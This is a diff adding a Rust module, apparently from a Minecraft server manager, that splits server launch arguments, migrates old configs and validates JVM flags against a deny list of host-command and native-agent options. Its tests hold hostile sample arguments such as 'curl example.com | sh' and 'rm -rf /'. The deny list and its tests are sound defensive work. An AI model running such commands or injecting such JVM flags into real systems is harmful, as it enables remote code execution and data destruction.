@@ -0,0 +1,192 @@
+//! The arguments the server is launched with. Flags for the JVM go before `-jar`, arguments of the
+//! server itself after the jar, e.g. `java -XX:+UseG1GC -Xmx2048M -jar server.jar nogui`
+
+use color_eyre::eyre::eyre;
+use serde_json::{json, Value};
+
+use crate::error::{Error, ErrorKind};
+
+/// What new instances pass to the server, so that it doesn't open its GUI
+pub fn default_program_args() -> Vec<String> {
+    vec!["nogui".to_string()]
+}
+
+fn is_nogui(arg: &str) -> bool {
+    matches!(arg, "nogui" | "--nogui")
+}
+
+/// Whether an argument of a flat list is meant for the JVM. The list used to be passed before the
+/// jar, so that's everything but `nogui`, which was the only server argument: not only `-X` and
+/// `-D` flags but also e.g. `--add-opens java.base/java.lang=ALL-UNNAMED`, `-javaagent:agent.jar`,
+/// `-ea`, `-server` and `-verbose:gc`, values included
+pub fn is_jvm_arg(arg: &str) -> bool {
+    !is_nogui(arg)
+}
+
+/// Refuses JVM arguments that run commands or load native code or arguments from elsewhere on the
+/// host, which a config that comes from another core mustn't be able to do
+pub fn validate_jvm_args(jvm_args: &[String]) -> Result<(), Error> {
+    for arg in jvm_args {
+        let runs_on_host = arg.starts_with("-XX:OnOutOfMemoryError")
+            || arg.starts_with("-XX:OnError")
+            || arg.starts_with("-agentpath:")
+            || arg.starts_with("-agentlib:")
+            || arg.starts_with("-Xbootclasspath")
+            // an argument file, whose arguments wouldn't be checked
+            || arg.starts_with('@');
+        if runs_on_host || arg.contains('\0') {
+            return Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!("JVM argument {} is not allowed", arg),
+            });
+        }
+    }
+    Ok(())
+}
+
+/// Splits a flat argument list into JVM and server arguments. `nogui` used to be passed
+/// regardless of the list, so it's added if the list doesn't have it
+pub fn split_cmd_args(cmd_args: &[String]) -> (Vec<String>, Vec<String>) {
+    let (jvm_args, mut program_args): (Vec<String>, Vec<String>) = cmd_args
+        .iter()
+        .filter(|arg| !arg.is_empty())
+        .cloned()
+        .partition(|arg| is_jvm_arg(arg));
+    if !program_args.iter().any(|arg| is_nogui(arg)) {
+        program_args.extend(default_program_args());
+    }
+    (jvm_args, program_args)
+}
+
+/// The flags java is launched with, the RAM flags of the instance last so that they win over any
+/// set in `jvm_args`
+pub fn launch_jvm_args(jvm_args: &[String], min_ram: u32, max_ram: u32) -> Vec<String> {
+    jvm_args
+        .iter()
+        .filter(|arg| !arg.is_empty())
+        .cloned()
+        .chain([format!("-Xmx{}M", max_ram), format!("-Xms{}M", min_ram)])
+        .collect()
+}
+
+/// Replaces the flat `cmd_args` of a config written before JVM and server arguments were kept
+/// apart with `jvm_args` and `program_args`
+pub fn migrate_cmd_args(config: &mut Value) {
+    let config = match config.as_object_mut() {
+        Some(config) => config,
+        None => return,
+    };
+    let cmd_args = match config.remove("cmd_args") {
+        Some(cmd_args) => cmd_args,
+        None => return,
+    };
+    if config.contains_key("jvm_args") {
+        return;
+    }
+    let cmd_args: Vec<String> = serde_json::from_value(cmd_args).unwrap_or_default();
+    let (jvm_args, program_args) = split_cmd_args(&cmd_args);
+    config.insert("jvm_args".to_string(), json!(jvm_args));
+    config.insert("program_args".to_string(), json!(program_args));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strings(args: &[&str]) -> Vec<String> {
+        args.iter().map(|arg| arg.to_string()).collect()
+    }
+
+    #[test]
+    fn test_split_cmd_args() {
+        let (jvm_args, program_args) = split_cmd_args(&strings(&[
+            "-XX:+UseG1GC",
+            "nogui",
+            "-Dlog4j2.formatMsgNoLookups=true",
+            "",
+            "-Xss4M",
+        ]));
+        assert_eq!(
+            jvm_args,
+            strings(&["-XX:+UseG1GC", "-Dlog4j2.formatMsgNoLookups=true", "-Xss4M"])
+        );
+        assert_eq!(program_args, strings(&["nogui"]));
+
+        // nogui isn't passed twice
+        let (jvm_args, program_args) = split_cmd_args(&strings(&["--nogui"]));
+        assert!(jvm_args.is_empty());
+        assert_eq!(program_args, strings(&["--nogui"]));
+        assert_eq!(split_cmd_args(&strings(&[""])).1, default_program_args());
+    }
+
+    #[test]
+    fn test_split_cmd_args_keeps_every_jvm_option() {
+        let cmd_args = strings(&[
+            "--add-modules",
+            "jdk.incubator.vector",
+            "--add-opens",
+            "java.base/java.lang=ALL-UNNAMED",
+            "-javaagent:authlib-injector.jar=example.com",
+            "-ea",
+            "-server",
+            "-verbose:gc",
+            "-XX:+UseG1GC",
+        ]);
+        let (jvm_args, program_args) = split_cmd_args(&cmd_args);
+        // in order, so that options keep their values
+        assert_eq!(jvm_args, cmd_args);
+        assert_eq!(program_args, default_program_args());
+        assert!(!is_jvm_arg("nogui") && !is_jvm_arg("--nogui"));
+    }
+
+    #[test]
+    fn test_validate_jvm_args() {
+        assert!(validate_jvm_args(&strings(&[
+            "-XX:+UseG1GC",
+            "-javaagent:authlib-injector.jar",
+            "--add-opens",
+            "java.base/java.lang=ALL-UNNAMED",
+        ]))
+        .is_ok());
+        for arg in [
+            "-XX:OnOutOfMemoryError=curl example.com | sh",
+            "-XX:OnError=rm -rf /",
+            "-agentpath:/tmp/agent.so",
+            "-agentlib:jdwp=transport=dt_socket",
+            "-Xbootclasspath/a:/tmp/evil.jar",
+            "@/etc/lodestone/args",
+        ] {
+            assert!(validate_jvm_args(&strings(&["-Xss4M", arg])).is_err());
+        }
+    }
+
+    #[test]
+    fn test_launch_jvm_args() {
+        assert_eq!(
+            launch_jvm_args(&strings(&["-XX:+UseG1GC", "", "-Xmx1G"]), 1024, 2048),
+            strings(&["-XX:+UseG1GC", "-Xmx1G", "-Xmx2048M", "-Xms1024M"])
+        );
+    }
+
+    #[test]
+    fn test_migrate_cmd_args() {
+        let mut config = json!({
+            "name": "test",
+            "cmd_args": ["-XX:+UseG1GC", "-javaagent:agent.jar"],
+        });
+        migrate_cmd_args(&mut config);
+        assert_eq!(
+            config,
+            json!({
+                "name": "test",
+                "jvm_args": ["-XX:+UseG1GC", "-javaagent:agent.jar"],
+                "program_args": ["nogui"],
+            })
+        );
+
+        // already split, left as is
+        let mut migrated = config.clone();
+        migrate_cmd_args(&mut migrated);
+        assert_eq!(migrated, config);
+    }
+}